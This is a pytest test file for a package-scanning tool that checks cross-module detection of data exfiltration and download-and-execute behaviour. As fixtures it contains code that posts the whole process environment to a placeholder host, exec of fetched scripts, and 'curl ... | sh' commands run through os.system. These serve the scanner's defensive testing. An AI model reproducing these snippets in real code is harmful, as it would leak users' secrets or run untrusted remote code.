"""Modules of one package seen together: what one reads and another sends, what one decodes and another runs."""

from __future__ import annotations

from collections.abc import Iterable

import pytest

from mlsupply.evidence.facets import CodeFact
from mlsupply.evidence.linking import MAX_LOOKS, ROUNDS, Linked, SkippedFile, linked
from mlsupply.evidence.module_facts import ModuleFacts, Neighbours, dotted_name
from mlsupply.evidence.prefilter.tokens import words_of
from mlsupply.evidence.python import analyse

READS = "import os\ndef gather():\n    return dict(os.environ)\n"
SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
GETS = "import urllib.request\ndef get(url):\n    return urllib.request.urlopen(url).read()\n"


def facts(files: dict[str, str], parsed: Iterable[str] = ()) -> list[CodeFact]:
    """Of a package `demo`; parsed: the files the first look chooses, all where none is named."""
    return [fact for module in together(files, parsed).modules for fact, _ in module.facts]


def together(files: dict[str, str], parsed: Iterable[str] = ()) -> Linked:
    sources = {f"demo/{name}.py": text.encode() for name, text in files.items()}
    chosen = [f"demo/{name}.py" for name in parsed] or list(sources)
    spare = spares({path: text for path, text in sources.items() if path not in chosen})

    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
        return [analyse.module(path, sources[path], "", known) for path, known in todo]

    first = [analyse.module(path, sources[path]) for path in chosen]
    return linked(first, spare, look)


def spares(files: dict[str, bytes]) -> dict[str, SkippedFile]:
    """Files that the first look leaves out."""
    return {dotted_name(path)[0]: SkippedFile(path, text, b"\n".join(words_of(text))) for path, text in files.items()}


def sent(found: list[CodeFact]) -> list[tuple[str, str, str]]:
    return [(fact.source, fact.sink, fact.destination) for fact in found if fact.behaviour == "sends"]


STOLEN = [("environment", "requests.post", "fixed")]


@pytest.mark.parametrize(
    "start",
    [
        "from .read import gather\nfrom .send import push\npush(gather())\n",
        "from . import read, send\nvalues = read.gather()\nsend.push({'v': values})\n",
        "from demo.read import gather as g\nfrom demo.send import push as p\ndef go():\n    p(g())\ngo()\n",
    ],
    ids=["names", "modules", "aliases"],
)
def test_what_one_module_reads_and_another_sends(start: str) -> None:
    assert sent(facts({"__init__": start, "read": READS, "send": SENDS})) == STOLEN


def test_a_module_that_passes_all_byte_filters_is_read_when_a_neighbour_sends_for_it() -> None:
    start = "from .read import gather\nfrom .send import push\npush(gather())\n"
    assert sent(facts({"__init__": start, "read": READS, "send": SENDS}, parsed=["send"])) == STOLEN


def test_a_sender_is_known_by_the_name_it_is_exported_under() -> None:
    start = "from .deep.send import push\n"
    late = "from demo.read import gather\nfrom demo import push as p\ndef go():\n    p(gather())\ngo()\n"
    files = {"__init__": start, "read": READS, "deep/send": SENDS, "late": late}
    assert sent(facts(files, parsed=["__init__", "deep/send"])) == STOLEN


def test_a_method_that_sends_is_found_on_an_object_of_its_class() -> None:
    sender = (
        f"import requests\nclass Post:\n    def push(self, data):\n{SENDS.splitlines()[2].replace('    ', '        ')}\n"
    )
    start = "import os\nfrom .send import Post\nout = Post()\nout.push(dict(os.environ))\n"
    assert sent(facts({"__init__": start, "send": sender}, parsed=["send"])) == STOLEN


@pytest.mark.parametrize(
    "text",
    [
        "def push(send): ...\nclass push_send: ...\n",
        "'the send module: push(data)'\n",
        "from .other import push\nfrom .send import Error\n",
        "from .model import Push\nx: Push\n",
    ],
)
def test_a_file_that_only_has_words_in_common_is_not_looked_at_again(text: str) -> None:
    looks: list[tuple[str, Neighbours | None]] = []
    files = {
        "send": SENDS,
        "other": text,
        "model": "class Push: ...\n",
        "run": "import os\nfrom .model import Push\nos.system(Push)",
    }
    sources = {f"demo/{name}.py": body.encode() for name, body in files.items()}

    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
        looks.extend(todo)
        return []

    left = ("demo/other.py", "demo/model.py")
    first = [analyse.module(path, text) for path, text in sources.items() if path not in left]
    linked(first, spares({path: sources[path] for path in left}), look)
    assert looks == []


def test_a_name_that_is_exported_again_leads_to_the_same_function() -> None:
    files = {
        "__init__": "from .read import gather\n",
        "read": READS,
        "send": SENDS,
        "late": "from demo import gather\nfrom demo.send import push\npush(gather())\n",
    }
    assert sent(facts(files)) == STOLEN


def test_what_is_fetched_by_one_and_executed_by_another() -> None:
    start = "from .net import get\nexec(get('https://x.example/s.py'))\n"
    found = facts({"__init__": start, "net": GETS})
    assert "runs-downloaded" in {fact.behaviour for fact in found}


def test_a_command_put_together_from_constants_of_another_module() -> None:
    start = "import os\nfrom .words import TOOL, REST\nos.system(TOOL + ' ' + REST)\n"
    found = facts({"__init__": start, "words": "TOOL = 'curl -s'\nREST = 'https://x.example/i | sh'\n"}, parsed=["__init__"])
    assert "runs-downloaded" in {fact.behaviour for fact in found}


def test_a_file_whose_address_the_caller_gives_is_no_download_to_run() -> None:
    """What a configured address gives is the user's business, as it is inside one module."""
    start = "from .net import get\ndef load(address):\n    exec(get(address))\n"
    found = facts({"__init__": start, "net": GETS})
    assert "runs-downloaded" not in {fact.behaviour for fact in found}


def test_an_honest_client_needs_no_second_look() -> None:
    looks = []
    files = {
        "demo/__init__.py": b"from .client import Client\nfrom .config import URL\nClient(URL).post({'a': 1})\n",
        "demo/config.py": b"URL = 'https://api.example/v1'\n",
        "demo/client.py": b"import requests\nclass Client:\n    def __init__(self, url):\n        self.url = url\n"
        b"    def post(self, data):\n        return requests.post(self.url, json=data).json()\n",
    }

    def look(todo: Iterable[tuple[str, Neighbours | None]]) -> list[ModuleFacts]:
        todo = list(todo)
        looks.extend(todo)
        return [analyse.module(path, files[path], "", known) for path, known in todo]

    linked([analyse.module(path, text) for path, text in files.items()], {}, look)
    assert looks == []


def _relay(length: int) -> dict[str, str]:
    """A package in which what `read` gathers goes through `length` modules before `send` has it."""
    files = {"read": READS, "send": SENDS, "relay0": "from .send import push\ndef go0(data):\n    push(data)\n"}
    for n in range(1, length):
        files[f"relay{n}"] = f"from .relay{n - 1} import go{n - 1}\ndef go{n}(data):\n    go{n - 1}(data)\n"
    last = length - 1
    files["__init__"] = f"from .read import gather\nfrom .relay{last} import go{last}\ngo{last}(gather())\n"
    return files


def test_a_value_is_followed_through_some_modules() -> None:
    seen = together(_relay(1))
    assert sent([fact for module in seen.modules for fact, _ in module.facts]) == STOLEN
    assert seen.cut == []


@pytest.mark.parametrize(
    "relay",
    [
        "from . import send\ndef pass_on(data):\n    send.push(data)\n",
        "from .send import push as p\nclass Relay:\n    def go(self, data):\n        p(data)\n"
        "def pass_on(d):\n    Relay().go(d)\n",
        "import demo.send\ndef pass_on(*data):\n    return demo.send.push({'v': data})\n",
    ],
)
def test_a_relay_may_know_the_sender_in_any_way(relay: str) -> None:
    start = "from .read import gather\nfrom .relay import pass_on\npass_on(gather())\n"
    assert sent(facts({"__init__": start, "read": READS, "send": SENDS, "relay": relay})) == STOLEN
    assert sent(facts({"__init__": start, "read": READS, "send": SENDS, "relay": relay}, parsed=["send"])) == STOLEN


def test_a_value_that_goes_through_more_modules_than_are_followed_is_said() -> None:
    seen = together(_relay(ROUNDS + 2))
    assert not sent([fact for module in seen.modules for fact, _ in module.facts])
    assert seen.cut


def test_a_crowd_of_files_that_ask_for_a_look_hides_none_of_them() -> None:
    """Those beyond the bound have their turn in the next round, and what never has one is told."""
    crowd = {f"a{n:03}": "from .send import push\ndef f(v):\n    push(v)\n" for n in range(MAX_LOOKS + 5)}
    files = {**crowd, "zz": f"from .send import push\n{READS}push(gather())\n", "send": SENDS}
    seen = together(files, parsed=["send"])
    assert sent([fact for module in seen.modules for fact, _ in module.facts]) == STOLEN
    more = {f"b{n:03}": text for n, text in enumerate([*crowd.values()] * (ROUNDS + 1))}
    seen = together({**more, **files}, parsed=["send"])
    assert sent([fact for module in seen.modules for fact, _ in module.facts]) == STOLEN or "demo/zz.py" in seen.cut


@pytest.mark.parametrize(
    ("importing", "read"),
    [
        ("from .send import push", True),
        ("from demo.send import (\n    other,\n    push,\n)", True),
        ("from . import (\n    other,\n    send,\n)\nsend.push(1)", True),
        ("import demo.send as s\ns.push(1)", True),
        ("# to send is to push\nfrom .sender import push", False),
        ("resend = pushed = 1", False),
    ],
)
def test_a_file_that_takes_a_sender_from_its_module_is_read(importing: str, read: bool) -> None:
    seen = together({"send": SENDS, "user": f"{importing}\n", "other": ""}, parsed=["send"])
    assert ("demo/user.py" in {module.path for module in seen.modules}) is read


def test_an_endless_line_that_names_a_sender_is_read_rather_than_searched() -> None:
    text = "x = [" + "send import (" * 100_000 + "]\npush = 1\n"
    seen = together({"send": SENDS, "user": text}, parsed=["send"])
    assert "demo/user.py" in {module.path for module in seen.modules}


COMMAND = "'curl https://c.example/i | sh'"


def ran(found: list[CodeFact]) -> list[tuple[str, str]]:
    return [(fact.sink, fact.behaviour) for fact in found if fact.behaviour == "runs-downloaded"]


@pytest.mark.parametrize(
    ("compat", "start"),
    [
        ("from os import system as sh\n", f"from .compat import sh\nsh({COMMAND})\n"),
        ("import os\nsh = os.system\n", f"from demo import compat\ncompat.sh({COMMAND})\n"),
        ("import os\n", f"from . import compat\ncompat.os.system({COMMAND})\n"),
        ("import os\n", f"from .compat import os\nos.system({COMMAND})\n"),
        ("import os\ndef sh(line):\n    return os.system(line)\n", f"from .compat import sh\nsh({COMMAND})\n"),
    ],
    ids=["taken under another name", "another name for it", "its module", "its module by name", "a function around it"],
)
def test_what_runs_programs_is_handed_on_by_a_neighbour(compat: str, start: str) -> None:
    chosen = ["compat", "__init__"] if "os.system" in start else ["compat"]  # as the filter of bytes does
    found = facts({"__init__": start, "compat": compat}, parsed=chosen)
    assert ran(found) == [("os.system", "runs-downloaded")]


def test_a_command_of_ones_own_for_a_function_of_a_neighbour_is_no_download() -> None:
    compat = "import subprocess\ndef sh(line):\n    return subprocess.run(line, shell=True)\n"
    assert ran(facts({"__init__": "from .compat import sh\nsh('git describe --tags')\n", "compat": compat})) == []


def test_code_for_what_a_neighbour_calls_exec() -> None:
    start = "from .compat import do\ndo('import os; os.system(' + repr(" + COMMAND + ") + ')')\n"
    assert ("os.system", "runs-downloaded") in ran(facts({"__init__": start, "compat": "do = exec\n"}, parsed=["compat"]))
